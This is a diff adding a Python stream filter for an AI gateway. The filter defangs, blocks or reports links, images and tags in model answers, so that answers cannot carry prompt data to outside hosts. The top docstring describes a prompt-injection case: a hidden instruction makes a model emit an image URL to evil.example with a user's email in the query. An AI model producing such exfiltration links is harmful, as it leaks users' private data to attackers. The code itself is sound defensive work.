@@ -1,0 +1,297 @@
+"""Links and images by which an answer could carry data away, or fetch what nobody asked for.
+
+What a page shows of an answer may load images by itself: an instruction hidden in a document can make the model write
+`![](https://evil.example/?q=<EMAIL_ADDRESS_1>)`, and restoring would fill the value in. So such links become texts.
+
+- Nothing is fetched by itself from a host that the policy does not name: images become links, tags become texts.
+- Nothing that carries data of the prompt, or that runs, can be followed, whatever its host.
+- With a list of hosts, no other host can be followed.
+
+This filter comes last before placeholders are restored, so that no other filter's output can make a link.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable, Sequence
+from dataclasses import dataclass
+from functools import partial
+from typing import Literal
+
+from gateway.errors import Blocked
+from gateway.guard.addresses import Addresses, Hosts, defanged
+from gateway.guard.edits import Edit, filtered
+from gateway.guard.fences import Fences
+from gateway.guard.markup import is_link, may_open, tag
+from gateway.guard.prompt_texts import read, texts_of
+from gateway.pipeline.channel import Channel, Field
+from gateway.pipeline.exchange import Exchange, Finding
+from gateway.pipeline.prompt import Prompt
+from gateway.pipeline.stage import PassThrough, StreamFilter
+
+Treatment = Literal["allow", "report", "neutralise", "block"]
+RULE = "answers.links"
+
+ADDRESS_CHARS = 940
+"""The longest address that is read; a longer one is made a text."""
+BOUND_CHARS = 1024
+"""The same and a placeholder."""
+_IMAGE_CHARS = 600
+_GAP_CHARS = 64
+_SCHEMES = r"(?:https?|ftp|wss?)"
+_TRIGGER = re.compile(
+    r"!\[|<[A-Za-z!?]|\](?=[(:])"
+    rf"|(?<![A-Za-z0-9]){_SCHEMES}:[/\\]|(?<![A-Za-z0-9])www\."
+    # What may still become one of these.
+    r"|[!<\]]\Z|(?<![A-Za-z0-9])(?:h|ht|htt|https?:?|f|ft|ftp:?|ww|wss?:?|www|w)\Z",
+    re.IGNORECASE,
+)
+_IMAGE = re.compile(r"!\[[^\[\]\\`<>\n]{0,200}\]\([ ]?([^\s<>()\\\"]{1,300})(?:[ ]\"[^\"\n<>\\]{0,80}\")?\)")
+_PLACEHOLDER = r"<[ ]?[A-Za-z][A-Za-z0-9 _\-\\]{0,72}[_ \-][1-9][0-9]{0,5}[ ]?>"
+_OPEN_PLACEHOLDER = re.compile(r"<[ ]?[A-Za-z][A-Za-z0-9 _\-\\]{0,72}(?:[_ \-][1-9][0-9]{0,5}[ ]?)?\Z|<[ ]?\Z")
+_ADDRESS = re.compile(rf"(?:[^\s<>\"`|]|{_PLACEHOLDER})+")
+_BRACKETED = re.compile(rf"<(?:[^<>\n]|{_PLACEHOLDER})*>")
+_TARGET = re.compile(rf"(?:[^\s<>()]|\((?:[^\s<>()]|{_PLACEHOLDER})*\)|{_PLACEHOLDER})+")
+_INNER = re.compile(r"!?\[|\]")
+_PUNCTUATION = ".,;:!?'\")]}*_~"
+
+
+@dataclass(frozen=True, slots=True)
+class _Found:
+    """The text up to `end` is decided on: it stays (None), or `text` stands in its place, because of `kind`.
+
+    What stays is passed by one character only, so that markup within it is read, too: renderers do not agree on what
+    is within what.
+    """
+
+    end: int
+    text: str | None = None
+    kind: str = ""
+    is_tag: bool = False
+
+
+class LinksStage:
+    """Neutralises, blocks or reports links in every text of an answer but log probabilities, whose tokens are none.
+
+    `hosts`: the hosts that may be followed, None for any that carries no data of the prompt. `restores`: whether
+    restoring puts a value of the exchange into a text. Without it the prompt's placeholders are looked for, which
+    is all where no value has a surrogate.
+    """
+
+    def __init__(
+        self,
+        hosts: Sequence[str] | None = None,
+        treatment: Treatment = "neutralise",
+        restores: Callable[[Exchange, str], bool] = lambda _exchange, _text: False,
+    ) -> None:
+        self._hosts = None if hosts is None else Hosts(hosts)
+        self._treatment = treatment
+        self._restores = restores
+
+    def on_request(self, prompt: Prompt, exchange: Exchange) -> Prompt:
+        read(prompt, exchange)
+        return prompt
+
+    def open(self, exchange: Exchange, channel: Channel) -> StreamFilter:
+        if self._treatment == "allow" or channel.field is Field.LOGPROBS:
+            return PassThrough()
+
+        def note(kind: str) -> None:
+            exchange.findings.append(Finding("links", kind, self._treatment, 1))
+            if self._treatment == "block":
+                raise Blocked(RULE)
+
+        # Arguments of tools are no page: files that a tool writes keep their markup, but addresses are read.
+        has_markup = channel.field is not Field.TOOL_ARGUMENTS
+        said = texts_of(exchange)
+        addresses = Addresses(self._hosts, said, partial(self._restores, exchange))
+        editor = LinksEditor(addresses, note, has_markup=has_markup)
+        if self._treatment == "report":
+            return filtered(_Reporting(editor), channel)
+        return filtered(editor, channel)
+
+
+class LinksEditor:
+    """Holds what may become a link, an image or a tag until it is known where it leads."""
+
+    hold_chars = BOUND_CHARS + _GAP_CHARS + 2
+
+    def __init__(self, addresses: Addresses, note: Callable[[str], None], *, has_markup: bool = True) -> None:
+        self._addresses = addresses
+        self._note = note
+        self._has_markup = has_markup
+        self._fences = Fences()
+        self._text = ""
+        # One character before it is kept: words begin where none stands before them.
+        self._at = 0
+        # How far the text has been read for what addresses carry.
+        self._read_to = 0
+
+    def push(self, text: str) -> list[Edit]:
+        self._text += text
+        return self._edits(final=False)
+
+    def flush(self) -> list[Edit]:
+        return self._edits(final=True)
+
+    def _edits(self, *, final: bool) -> list[Edit]:
+        edits: list[Edit] = []
+        while self._at < len(self._text):
+            match = _TRIGGER.search(self._text, self._at)
+            start = match.start() if match else len(self._text)
+            self._pass(edits, start)
+            if match is None:
+                break
+            found = self._found(start, final=final)
+            if found is None:
+                break
+            if found.text is not None:
+                self._note(found.kind)
+                edits.append(Edit(found.end - start, found.text))
+                self._fences.see(self._text[start : found.end])
+                self._at = found.end
+            else:
+                if found.is_tag:
+                    self._fences.see_tag()
+                self._pass(edits, found.end)
+        keep = max(0, self._at - 1)
+        self._text, self._at, self._read_to = self._text[keep:], self._at - keep, self._read_to - keep
+        return edits
+
+    def _pass(self, edits: list[Edit], end: int) -> None:
+        if end > self._at:
+            self._fences.see(self._text[self._at : end])
+            edits.append(Edit(end - self._at))
+            self._at = end
+
+    def _found(self, at: int, *, final: bool) -> _Found | None:
+        """What begins at a trigger; None: more text is needed."""
+        sign = self._text[at]
+        if sign not in "!<]":
+            return self._address(at, final=final)
+        if not self._has_markup or self._fences.is_inside:
+            return _Found(at + 1)
+        if at + 1 == len(self._text):
+            return _Found(at + 1) if final else None
+        if sign == "!":
+            return self._image(at, final=final)
+        return self._angle(at, final=final) if sign == "<" else self._target(at, final=final)
+
+    def _address(self, at: int, *, final: bool) -> _Found | None:
+        """An address in running text."""
+        match = _ADDRESS.match(self._text, at, at + BOUND_CHARS)
+        end = match.end() if match else at + 1
+        if end - at >= ADDRESS_CHARS:
+            return self._dead(at, at + ADDRESS_CHARS, "long")
+        if not final and (end == len(self._text) or _OPEN_PLACEHOLDER.match(self._text, end)):
+            return None
+        address = self._text[at:end]
+        bare = address.rstrip(_PUNCTUATION)
+        fault = self._addresses.fault(bare, is_read=end <= self._read_to) if len(bare) > 4 else None
+        if fault is not None:
+            return self._dead(at, end, fault)
+        self._read_to = max(self._read_to, end)
+        return _Found(at + 1)
+
+    def _dead(self, at: int, end: int, fault: str, begin: int | None = None, before: str = "") -> _Found:
+        """What stands from `begin` (`at` if not given) to `end` made an address for reading only, `before` standing in
+        place of what comes before it. It ends where other markup begins, which is read by itself."""
+        begin = at if begin is None else begin
+        inner = _INNER.search(self._text, begin, end)
+        end = inner.start() if inner else end
+        while end > begin and self._text[end - 1] == "!":
+            end -= 1
+        return _Found(end, before + defanged(self._text[begin:end]), fault)
+
+    def _image(self, at: int, *, final: bool) -> _Found | None:
+        """An image stays only if it is written plainly and its host is on the list; others become links."""
+        if self._text[at + 1] != "[":
+            return _Found(at + 1)
+        if self._addresses.has_list:
+            match = _IMAGE.match(self._text, at)
+            if match and self._addresses.fault(match[1]) is None:
+                return _Found(at + 1)
+            line_end = self._text.find("\n", at, at + _IMAGE_CHARS)
+            if match is None and line_end < 0 and len(self._text) - at < _IMAGE_CHARS and not final:
+                return None
+        # Of several exclamation marks one would be left, and with it the image.
+        return _Found(at + 1, "! " if self._text[:at].endswith("!") else "", "image")
+
+    def _angle(self, at: int, *, final: bool) -> _Found | None:
+        linked = is_link(self._text, at)
+        if linked is None and not final:
+            return None
+        if linked:
+            return self._bracketed(at, final=final)
+        decided = tag(self._text, at, self._addresses.fault, images=self._addresses.has_list, final=final)
+        if decided is None:
+            return None
+        # Only the bracket is passed: what some take for attributes others read as text with markup in it.
+        return _Found(at + 1, is_tag=may_open(self._text, at)) if decided else _Found(at + 1, "< ", "tag")
+
+    def _bracketed(self, at: int, *, final: bool) -> _Found | None:
+        """`<https://…>`: an address that is a link wherever Markdown is shown."""
+        match = _BRACKETED.match(self._text, at, at + BOUND_CHARS)
+        if match is None:
+            is_open = len(self._text) - at < BOUND_CHARS and "\n" not in self._text[at:]
+            return None if is_open and not final else _Found(at + 1, "< ", "link")
+        fault = self._addresses.fault(match[0][1:-1])
+        if fault is None:
+            return _Found(at + 1)
+        if _INNER.search(match[0]):
+            return _Found(at + 1, "< ", fault)
+        return _Found(match.end(), defanged(match[0][1:-1]), fault)
+
+    def _target(self, at: int, *, final: bool) -> _Found | None:
+        """What stands behind `](`, or behind `]:` of a definition."""
+        text, opening = self._text, self._text[at + 1]
+        if opening not in "(:":
+            return _Found(at + 1)
+        begin = at + 2
+        while begin < len(text) and text[begin].isspace() and begin - at < _GAP_CHARS:
+            begin += 1
+        if begin == len(text) and not final:
+            return None
+        end = self._target_end(begin, final=final)
+        if end is None:
+            return None
+        address = text[begin:end]
+        fault = "long" if end - begin >= ADDRESS_CHARS else self._addresses.fault(address) if address else None
+        after = text[end : end + 1]
+        if fault is None and opening == "(" and (after in ("<", "(") or (not address and after.isspace())):
+            # Renderers do not agree on where such a target ends.
+            fault = "disguise"
+        if fault is None:
+            return _Found(at + 1)
+        before = f"] {opening}{text[at + 2 : begin]}"
+        return self._dead(at, end, fault, begin, before)
+
+    def _target_end(self, begin: int, *, final: bool) -> int | None:
+        """Where a target ends; None: more text is needed."""
+        text = self._text
+        is_bracketed = text[begin : begin + 1] == "<"
+        match = (_BRACKETED if is_bracketed else _TARGET).match(text, begin, begin + BOUND_CHARS)
+        end = match.end() if match else begin
+        if end - begin >= ADDRESS_CHARS:
+            return begin + ADDRESS_CHARS
+        if final or (is_bracketed and match is not None):
+            return end
+        may_go_on = end == len(text) or _OPEN_PLACEHOLDER.match(text, end) is not None
+        return None if may_go_on or (text[end] in "<(" and self._is_open(begin)) else end
+
+    def _is_open(self, at: int) -> bool:
+        return len(self._text) - at < BOUND_CHARS and "\n" not in self._text[at:]
+
+
+class _Reporting:
+    """Finds the same and changes nothing."""
+
+    def __init__(self, editor: LinksEditor) -> None:
+        self._editor = editor
+        self.hold_chars = editor.hold_chars
+
+    def push(self, text: str) -> list[Edit]:
+        return [Edit(edit.count) for edit in self._editor.push(text)]
+
+    def flush(self) -> list[Edit]:
+        return [Edit(edit.count) for edit in self._editor.flush()]
